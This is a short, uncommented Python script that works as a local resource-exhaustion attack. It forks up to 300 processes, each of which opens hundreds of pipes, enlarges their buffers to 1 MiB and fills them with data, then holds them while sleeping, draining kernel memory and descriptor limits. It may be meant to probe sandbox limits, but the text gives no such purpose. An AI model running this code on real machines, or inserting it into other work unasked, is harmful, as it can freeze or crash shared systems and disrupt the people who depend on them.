import fcntl
import os
import time

chunk = b"x" * 65_536
for _ in range(300):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        for _ in range(500):
            try:
                near, far = os.pipe()
                os.set_blocking(far, False)
                fcntl.fcntl(far, fcntl.F_SETPIPE_SZ, 1 << 20)
            except OSError:
                pass
            try:
                while True:
                    os.write(far, chunk)
            except OSError:
                pass
        time.sleep(60)
        os._exit(0)
time.sleep(20)
